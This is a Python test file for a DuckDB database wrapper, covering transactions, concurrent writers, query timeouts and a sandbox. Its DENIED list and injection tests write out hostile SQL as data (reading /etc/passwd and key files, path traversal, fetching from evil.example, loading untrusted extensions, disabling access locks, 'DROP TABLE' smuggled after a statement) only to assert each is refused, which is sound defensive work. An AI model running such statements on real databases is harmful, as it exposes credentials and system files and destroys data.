"""The door to DuckDB: one writer, cursors that see commits, a file nobody else opens, a sandbox nothing leaves."""

import subprocess
import sys
import threading
import time
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest

from data.database import DatabaseError, Queries, Query, TooSlow
from data.home import Home


def sql(text: str) -> Query:
    return Query("test", "A test.", text)


@pytest.fixture
def table(home: Home) -> Home:
    with home.db.write() as tx:
        tx.run(sql("CREATE TABLE t (id BIGINT PRIMARY KEY, word VARCHAR)"))
    return home


def test_a_failed_transaction_leaves_nothing(table: Home) -> None:
    with pytest.raises(ZeroDivisionError), table.db.write() as tx:
        tx.run(sql("INSERT INTO t VALUES (1, 'a')"))
        raise ZeroDivisionError
    assert table.db.read().rows(sql("SELECT * FROM t")) == []


def test_a_commit_is_seen_by_every_thread_and_raises_the_version(table: Home) -> None:
    before, seen = table.db.version, []
    with table.db.write() as tx:
        tx.run(sql("INSERT INTO t VALUES (1, 'a')"))
    threads = [
        threading.Thread(target=lambda: seen.append(table.db.read().value(sql("SELECT word FROM t")))) for _ in range(4)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert (seen, table.db.version) == (["a"] * 4, before + 1)


def test_a_quiet_write_is_noticed_only_after_a_bump(table: Home) -> None:
    before = table.db.version
    with table.db.write(quiet=True) as tx:
        tx.run(sql("INSERT INTO t VALUES (1, 'a')"))
    assert table.db.version == before
    table.db.bump()
    assert table.db.version == before + 1


def test_eight_writers_lose_no_update(table: Home) -> None:
    with table.db.write() as tx:
        tx.run(sql("INSERT INTO t VALUES (1, '0')"))

    def add() -> None:
        for _ in range(20):
            with table.db.write() as tx:
                word = tx.value(sql("SELECT word FROM t"))
                tx.run(sql("UPDATE t SET word = $word"), word=str(int(word) + 1))

    threads = [threading.Thread(target=add) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert table.db.read().value(sql("SELECT word FROM t")) == "160"


def test_a_duplicate_key_names_itself_and_leaves_the_writer_usable(table: Home) -> None:
    with pytest.raises(duckdb.ConstraintException), table.db.write() as tx:
        tx.run(sql("INSERT INTO t VALUES (1, 'a'), (1, 'b')"))
    with table.db.write() as tx:
        assert tx.run(sql("INSERT INTO t VALUES (1, 'a')")) == 1


def test_a_frame_is_seen_inside_its_block_only(table: Home) -> None:
    with table.db.write() as tx:
        with tx.frame("incoming", pa.table({"id": [1, 2]})):
            assert tx.run(sql("INSERT INTO t SELECT id, 'x' FROM incoming")) == 2
        with pytest.raises(duckdb.CatalogException):
            tx.rows(sql("SELECT * FROM incoming"))


def test_a_filter_may_carry_more_than_a_statement_asks(home: Home) -> None:
    assert home.db.read().value(sql("SELECT $a"), a=1, b=2) == 1


def test_a_snapshot_does_not_see_later_commits(table: Home) -> None:
    with table.db.snapshot() as reader:
        assert reader.value(sql("SELECT count(*) FROM t")) == 0
        with table.db.write() as tx:
            tx.run(sql("INSERT INTO t VALUES (1, 'a')"))
        assert reader.value(sql("SELECT count(*) FROM t")) == 0


# What SQL could reach outside its own tables, grouped by how: reading, writing, attaching, loading, settings, other ways.
DENIED = [
    *("SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_text('/etc/passwd')", "SELECT * FROM '/etc/passwd'"),
    *(
        "SELECT * FROM read_blob('{home}/keys/audit')",
        "SELECT * FROM read_json('/etc/os-release')",
        "SELECT * FROM glob('/*')",
    ),
    *("SELECT * FROM read_parquet('/x.parquet')", "SELECT * FROM read_csv('https://evil.example/x.csv')"),
    *("SELECT * FROM read_text('{home}/exports/../flowcard.lock')", "SELECT * FROM sniff_csv('/etc/passwd')"),
    *("SELECT * FROM 's3://evil/x.parquet'", "SELECT * FROM read_text('{home}/carriers.toml')"),
    *("COPY (SELECT 1) TO '/tmp/flowcard-escape.csv'", "COPY (SELECT 1) TO '{home}/exports/../escape.csv'"),
    *("COPY sim FROM '/etc/passwd'", "COPY (SELECT 1) TO '{home}/keys/audit'", "COPY (SELECT 1) TO '/dev/stdout'"),
    *("EXPORT DATABASE '/tmp/flowcard-escape'", "IMPORT DATABASE '/tmp/flowcard-escape'"),
    *(
        "ATTACH '/tmp/flowcard-escape.duckdb'",
        "ATTACH '{home}/exports/../other.duckdb'",
        "ATTACH 'https://evil.example/x.db'",
    ),
    *("ATTACH '/tmp/x.db' (TYPE sqlite)", "ATTACH '' AS pg (TYPE postgres)"),
    *("INSTALL httpfs", "LOAD httpfs", "INSTALL './evil.duckdb_extension'", "LOAD '/tmp/evil.duckdb_extension'"),
    *("FORCE INSTALL httpfs FROM 'http://evil.example'", "UPDATE EXTENSIONS"),
    *("SET enable_external_access = true", "SET lock_configuration = false", "SET allowed_directories = ['/']"),
    *("SET allowed_paths = ['/etc/passwd']", "SET python_enable_replacements = true", "SET memory_limit = '1TB'"),
    *("SET allow_community_extensions = true", "SET allow_unsigned_extensions = true", "SET threads = 64"),
    *(
        "SET temp_directory = '/etc'",
        "SET log_query_path = '/tmp/flowcard-log'",
        "SET GLOBAL enable_external_access = true",
    ),
    *("PRAGMA enable_external_access = true", "RESET lock_configuration", "RESET allowed_directories"),
    *("SET secret_directory = '/tmp'", "SET home_directory = '/'"),
    *("SET custom_extension_repository = 'http://evil.example'", "SET file_search_path = '/etc'"),
    *("CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')", "SELECT * FROM lying_here"),
]


@pytest.mark.parametrize("statement", DENIED)
def test_sql_reaches_no_file_no_setting_and_no_variable_of_ours(home: Home, statement: str) -> None:
    lying_here = pa.table({"a": [1]})
    with pytest.raises(duckdb.Error):
        home.db.read().rows(sql(statement.replace("{home}", str(home.path))))
    assert lying_here.num_rows == 1


@pytest.mark.parametrize(
    "text", ["SELECT 1; DROP TABLE t", "SELECT 1;; SELECT 2", "SELECT 1; -- ;\nDELETE FROM t", "", " -- nothing"]
)
def test_what_is_put_together_is_one_statement(table: Home, text: str) -> None:
    target = table.exports / "x.csv"
    for run in (
        table.db.read().rows,
        table.db.read().arrow,
        lambda query: table.db.copy_to(query, target, format="csv"),
    ):
        with pytest.raises(DatabaseError, match="one statement"):
            run(sql(text))
    assert table.db.read().rows(sql("SELECT * FROM t")) == []


def test_copying_takes_no_text_that_ends_its_own_bracket(table: Home) -> None:
    text = f"SELECT 1) TO '{table.exports / 'y.csv'}' (FORMAT csv); DROP TABLE t; COPY (SELECT 1"
    with pytest.raises((DatabaseError, duckdb.ParserException)):
        table.db.copy_to(sql(text), table.exports / "x.csv", format="csv")
    assert table.db.read().rows(sql("SELECT * FROM t")) == []


HEAVY = "SELECT count(*) AS n FROM range(100000000) a, range(100000000) b WHERE a.range % 7 = b.range % 5"


@pytest.mark.parametrize("way", ["rows", "arrow", "value"])
def test_a_runaway_read_ends_in_time_and_leaves_the_cursor_usable(home: Home, way: str) -> None:
    began = time.monotonic()
    with pytest.raises(TooSlow, match=r"0\.3 seconds"), home.db.read().within(0.3) as reader:
        getattr(reader, way)(sql(HEAVY))
    assert time.monotonic() - began < 20, "whole, it would take hours"
    assert home.db.read().value(sql("SELECT 7")) == 7


def test_a_read_in_time_is_never_stopped_afterwards(home: Home) -> None:
    for _ in range(20):
        with home.db.read().within(0.01) as reader:
            reader.value(sql("SELECT 1"))
    # Longer than any of those had: were one of their stopwatches still running, it would end this one.
    assert home.db.read().value(sql("SELECT count(*) FROM range(30000000) a WHERE a.range % 3 = 0")) == 10_000_000


def test_exports_are_the_one_way_out(home: Home) -> None:
    target = home.exports / "one.csv"
    assert home.db.copy_to(sql("SELECT 1 AS a UNION ALL SELECT 2"), target, format="csv") == 2
    assert target.read_text(encoding="utf-8").split() == ["a", "1", "2"]


def test_a_second_process_is_refused_the_file(home: Home) -> None:
    code = f"import duckdb; duckdb.connect({str(home.path / 'flowcard.duckdb')!r}, read_only=True)"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, check=False).returncode != 0


def test_what_was_committed_survives_a_kill(tmp_path: Path) -> None:
    code = f"""
import os, signal
from pathlib import Path
from data.database import Query
from data.home import open_home
home = open_home(Path({str(tmp_path / "home")!r}), create="real")
with home.db.write() as tx:
    tx.run(Query("t", "", "CREATE TABLE t AS SELECT 7 AS n"))
os.kill(os.getpid(), signal.SIGKILL)
"""
    subprocess.run([sys.executable, "-c", code], check=False)
    from data.home import open_home

    home = open_home(tmp_path / "home")
    assert home.db.read().value(sql("SELECT n FROM t")) == 7
    home.close()


def test_queries_are_read_by_name_with_their_sentence() -> None:
    queries = Queries("-- name: a\n-- One.\nSELECT 1;\n\n-- name: b\n-- Two\n-- lines.\nSELECT {x};\n")
    assert (queries.a.sentence, queries.a.sql) == ("One.", "SELECT 1")
    assert queries.b.fill(x="2").sql == "SELECT 2"
    with pytest.raises(AttributeError, match="no query named 'c'"):
        _ = queries.c


def test_a_transaction_inside_a_transaction_is_named_not_waited_for(home: Home) -> None:
    with pytest.raises(DatabaseError, match="open already"), home.db.write(), home.db.write():
        pass
    with home.db.write() as tx:
        assert tx.value(sql("SELECT 1")) == 1
